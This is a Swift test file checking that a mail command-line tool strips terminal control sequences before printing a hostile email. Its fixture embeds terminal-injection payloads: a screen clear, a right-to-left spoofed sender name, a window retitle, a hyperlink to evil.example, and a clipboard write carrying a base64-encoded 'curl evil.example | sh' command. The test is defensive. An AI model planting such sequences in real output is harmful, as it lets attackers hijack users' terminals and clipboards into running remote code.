import Foundation
import Testing

@Suite("Mail cannot write to the terminal", .serialized)
struct TerminalSafetyCLITests {
    /// A message whose subject clears the screen (ESC [2J and a C1 CSI), whose sender's name
    /// carries a right-to-left override, and whose body writes the clipboard (OSC 52) and
    /// retitles the window.
    static let hostileMessage = """
        From: =?UTF-8?B?\(Data("Bank \u{202E}gnp.exe\u{202C} support".utf8).base64EncodedString())?= <support@hostile.example>
        To: maya@lindqvist.example
        Subject: =?UTF-8?B?\(Data("Invoice zebraquartz \u{1B}[2J\u{1B}[H\u{9B}31m due".utf8).base64EncodedString())?=
        Date: Tue, 3 Mar 2026 10:00:00 +0000
        Message-ID: <hostile-1@hostile.example>
        MIME-Version: 1.0
        Content-Type: text/plain; charset=utf-8
        Content-Transfer-Encoding: 8bit

        Please pay zebraquartz now.\u{1B}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{07}
        \u{1B}]0;pwned\u{1B}\\Second line \u{2067}isolated\u{2069} \u{9D}8;;http://evil.example\u{9C}link\r
        Last line.

        """.replacingOccurrences(of: "\n", with: "\r\n")

    /// Escape, the C1 controls and the bidi controls: none may reach a terminal.
    static func hasTerminalControls(_ text: String) -> Bool {
        text.unicodeScalars.contains { scalar in
            switch scalar.value {
            case 0x1B, 0x7F...0x9F, 0x202A...0x202E, 0x2066...0x2069: true
            case 0x00...0x1F: scalar != "\n" && scalar != "\t"
            default: false
            }
        }
    }

    @Test("list, show, search and triage print a hostile message without control sequences")
    func hostileMessageIsSanitized() throws {
        let cli = try CLIRunner()
        defer { cli.remove() }
        let file = cli.vault.deletingLastPathComponent().appendingPathComponent("hostile.eml")
        try Data(Self.hostileMessage.utf8).write(to: file)
        #expect(try cli.run("init").status == 0)
        let imported = try cli.run("import", file.path)
        #expect(imported.status == 0, "\(imported.stderr)")

        let listed = try cli.run("list", "--json")
        let id = (try JSONSerialization.jsonObject(with: Data(listed.stdout.utf8)) as? [[String: Any]])?.first?["id"] as? Int
        let messageID = try #require(id)
        #expect(listed.stdout.contains("\\u001b"), "JSON keeps the escape, escaped")
        #expect(!listed.stdout.contains("\u{1B}"))

        for arguments in [["list"], ["show", String(messageID)], ["show", String(messageID), "--headers"],
                          ["search", "zebraquartz"], ["search", "zebraquartz", "--explain"], ["list", "--thread"]] {
            let result = try cli.run(arguments)
            #expect(result.status == 0, "\(arguments): \(result.stderr)")
            #expect(result.stdout.contains("zebraquartz"), "\(arguments) shows the message")
            #expect(!Self.hasTerminalControls(result.stdout), "\(arguments) printed a control sequence: \(result.stdout.debugDescription)")
            #expect(!Self.hasTerminalControls(result.stderr), "\(arguments) wrote a control sequence to stderr")
        }
        let triaged = try cli.run("triage")
        #expect(triaged.status == 0, "\(triaged.stderr)")
        #expect(!Self.hasTerminalControls(triaged.stdout), "triage printed a control sequence")
        let shown = try cli.run("show", String(messageID))
        #expect(shown.stdout.contains("Please pay zebraquartz now."))
        #expect(shown.stdout.contains("Last line."), "line breaks of the body are kept")
        #expect(!shown.stdout.contains("Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=="), "the clipboard payload goes with its sequence")
    }
}
